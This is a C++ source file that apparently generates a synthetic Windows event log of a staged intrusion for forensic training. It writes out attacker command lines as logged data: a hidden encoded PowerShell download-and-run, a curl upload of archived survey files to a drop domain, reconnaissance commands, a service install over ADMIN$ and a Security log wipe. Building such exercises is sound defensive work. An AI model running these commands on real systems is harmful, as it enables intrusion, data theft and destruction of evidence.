// SPDX-License-Identifier: Apache-2.0
#include "intrusion.hpp"

#include <cstdint>

namespace first_look {
namespace {

constexpr const char* kPowerShellExe =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr const char* kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr const char* kSystem32 = "C:\\Windows\\System32\\";
constexpr Moment kReturn = at(1, 1, 12, 40);

std::string base64(const std::string& bytes) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (size_t i = 0; i < bytes.size(); i += 3) {
    uint32_t group = 0;
    for (size_t k = 0; k < 3; ++k)
      group = group << 8U | (i + k < bytes.size() ? static_cast<unsigned char>(bytes[i + k]) : 0U);
    for (size_t k = 0; k < 4; ++k)
      out += i + k > bytes.size() ? '=' : kAlphabet[group >> (18 - 6 * k) & 63U];
  }
  return out;
}

/// As `powershell -EncodedCommand` wants it.
std::string encoded_command(const std::string& script) {
  std::string utf16;
  for (const char c : script)
    utf16 += {c, '\0'};
  return base64(utf16);
}

Process by_hand(const std::string& program, const std::string& command_line, const Person& who) {
  return {kSystem32 + program, command_line, kCmd, who.account, "", "", ""};
}

Process renamed_tool(const std::string& image, const std::string& command_line,
                     const std::string& parent, const std::string& user) {
  return {image, command_line, parent, user, "farhand.exe", kToolSha256, kToolMd5};
}

/// Evening of the first day: one password for all accounts, then the next one, slowly.
void spray(CaseLog& log) {
  constexpr Person kGuesses[] = {
      {"administrator", "", 0}, {"scanner", "", 0}, {"reception", "", 0}, {"backup", "", 0}};
  for (int wave = 0; wave < 14; ++wave) {
    Moment time = at(0, 21, 37) + wave * 5 * kMinute + log.random.between(0, 40 * kSecond);
    const std::string from = log.random.pick(kSprayers);
    const auto try_account = [&](const Person& who) {
      time += log.random.between(700, 4200);
      if (wave == 13 && who.rid == kVictim.rid)
        log.sign_off(time + 900, kWorkstation, who, 3,
                     log.sign_in(time, kWorkstation, who, 3, from));
      else
        log.failed_sign_in(time, kWorkstation, who, from);
    };
    for (const Person& who : kPeople)
      try_account(who);
    for (const Person& who : kGuesses)
      try_account(who);
  }
}

void download(CaseLog& log) {
  const std::string script = std::string("iwr ") + kDownloadUrl + " -OutFile " + kTool +
                             "; start " + kTool + " 'serve --quiet'";
  const Moment time = kReturn + 101 * kSecond;
  log.process(time - 40 * kSecond, kWorkstation,
              {kCmd, "\"C:\\Windows\\System32\\cmd.exe\"", "C:\\Windows\\explorer.exe",
               kVictim.account, "Cmd.Exe", "", ""});
  log.process(time, kWorkstation,
              {kPowerShellExe, "powershell -NoP -W Hidden -enc " + encoded_command(script), kCmd,
               kVictim.account, "PowerShell.EXE", "", ""});
  log.add(time + 800, kWorkstation, kPowerShell, 4104, "Execute a Remote Command")
      .with("ScriptBlockText", script)
      .with("MessageNumber", "1")
      .with("MessageTotal", "1");
  log.dns(time + 1100, kWorkstation, kPowerShellExe, kDownloadDomain, kControlAddress);
  log.connection(time + 1300, kWorkstation, kPowerShellExe, kVictim.account, kControlAddress, 443,
                 2'310, 1'482'752);
  log.add(time + 3000, kWorkstation, kSysmon, 11, "File created (rule: FileCreate)")
      .with("UtcTime", sysmon_time(time + 2990))
      .with("Image", kPowerShellExe)
      .with("TargetFilename", kTool);
  log.process(
      time + 4200, kWorkstation,
      renamed_tool(kTool, std::string(kTool) + " serve --quiet", kPowerShellExe, kVictim.account));
}

/// The tool calls home about every five minutes; when that is slow, over IPv6.
void call_home(CaseLog& log) {
  int calls = 0;
  for (Moment time = kReturn + 2 * kMinute; time < at(1, 3, 5);
       time += 5 * kMinute + log.random.between(-20 * kSecond, 20 * kSecond)) {
    const char* to = ++calls % 8 == 0 ? kControlAddress6 : kControlAddress;
    const int64_t sent = log.random.between(380, 2'600);
    log.connection(time, kWorkstation, kTool, kVictim.account, to, 443, sent, 1'180);
  }
}

void look_around(CaseLog& log) {
  const struct {
    int seconds;
    const char* program;
    const char* command_line;
  } kSteps[] = {{240, "whoami.exe", "whoami /all"},
                {262, "ipconfig.exe", "ipconfig /all"},
                {301, "net.exe", "net group \"Domain Admins\" /domain"},
                {344, "nltest.exe", "nltest /dclist:BRAMBLEWICK"},
                {402, "net.exe", "net view \\\\HERON /all"},
                {655, "net.exe", "net use \\\\HERON\\Surveys"}};
  for (const auto& step : kSteps)
    log.process(kReturn + step.seconds * kSecond, kWorkstation,
                by_hand(step.program, step.command_line, kVictim));
  log.add(at(1, 1, 40, 12), kWorkstation, kSysmon, 10, "Process accessed (rule: ProcessAccess)")
      .with("UtcTime", sysmon_time(at(1, 1, 40, 12)))
      .with("Image", kTool)
      .with("TargetImage", "C:\\Windows\\System32\\lsass.exe")
      .with("GrantedAccess", "0x1010");
}

/// With the password of the backup account: the tool as a service on the file server.
std::string move_to_server(CaseLog& log) {
  const Moment time = at(1, 2, 5, 18);
  log.add(time - 400, kWorkstation, kSecurity, 4648, "Logon")
      .with("SubjectUserName", kVictim.account)
      .with("TargetUserName", kBackup.account)
      .with("TargetServerName", kServer.name)
      .with("ProcessName", kTool);
  std::string session = log.sign_in(time, kServer, kBackup, 3, kWorkstation.address, true);
  log.add(time + 700, kServer, kSecurity, 5145, "Detailed File Share")
      .with("SubjectUserName", kBackup.account)
      .with("SubjectLogonId", session)
      .with("IpAddress", kWorkstation.address)
      .with("ShareName", "\\\\*\\ADMIN$")
      .with("RelativeTargetName", "Temp\\prnsvc.exe")
      .with("AccessMask", "0x2");
  log.add(time + 2500, kServer, kSecurity, 4697, "Security System Extension")
      .with("SubjectUserName", kBackup.account)
      .with("SubjectLogonId", session)
      .with("ServiceName", "Print Queue Helper")
      .with("ServiceFileName", kToolOnServer)
      .with("ServiceAccount", "LocalSystem");
  log.add(time + 2510, kServer, kSystem, 7045, "Service installed")
      .with("ServiceName", "Print Queue Helper")
      .with("ImagePath", kToolOnServer)
      .with("StartType", "demand start")
      .with("AccountName", "LocalSystem");
  log.process(time + 3100, kServer,
              renamed_tool(kToolOnServer, std::string(kToolOnServer) + " serve --quiet",
                           "C:\\Windows\\System32\\services.exe", "SYSTEM"));
  return session;
}

void upload(CaseLog& log, Moment time, const std::string& file, int64_t bytes) {
  const std::string url = std::string("https://") + kDropDomain + "/in/" + file;
  const Process curl{std::string(kSystem32) + "curl.exe",
                     "curl.exe -s -T C:\\Windows\\Temp\\" + file + " " + url,
                     kToolOnServer,
                     "SYSTEM",
                     "curl.exe",
                     "",
                     ""};
  log.process(time, kServer, curl);
  log.dns(time + 300, kServer, curl.image, kDropDomain, kDropAddress);
  log.connection(time + 500, kServer, curl.image, "SYSTEM", kDropAddress, 443, bytes, 9'114);
}

void take_the_surveys(CaseLog& log) {
  for (int part = 1; part <= 2; ++part) {
    const std::string file = "q" + std::to_string(part) + ".zip";
    log.process(at(1, 2, 14 + 9 * part, 31), kServer,
                {std::string(kSystem32) + "tar.exe",
                 "tar.exe -a -c -f C:\\Windows\\Temp\\" + file + " D:\\Surveys\\202" +
                     std::to_string(4 + part),
                 kToolOnServer, "SYSTEM", "bsdtar", "", ""});
  }
  upload(log, at(1, 2, 41, 7), "q1.zip", 412'386'119);
  upload(log, at(1, 2, 47, 52), "q2.zip", 388'020'447);
}

void cover_up(CaseLog& log, const std::string& session) {
  const Moment time = at(1, 3, 2, 9);
  log.sign_off(time - kMinute, kServer, kBackup, 3, session);
  log.process(time, kWorkstation, by_hand("wevtutil.exe", "wevtutil cl Security", kVictim));
  log.add(time + 300, kWorkstation, kEventlog, 1102, "Log clear")
      .with("SubjectUserName", kVictim.account)
      .with("SubjectDomainName", kNetbios);
}

}  // namespace

void add_intrusion(CaseLog& log) {
  spray(log);
  const std::string session = log.sign_in(kReturn, kWorkstation, kVictim, 10, kSignInFrom, true);
  download(log);
  look_around(log);
  call_home(log);
  const std::string on_server = move_to_server(log);
  take_the_surveys(log);
  cover_up(log, on_server);
  log.sign_off(at(1, 3, 5, 1), kWorkstation, kVictim, 10, session);
}

}  // namespace first_look
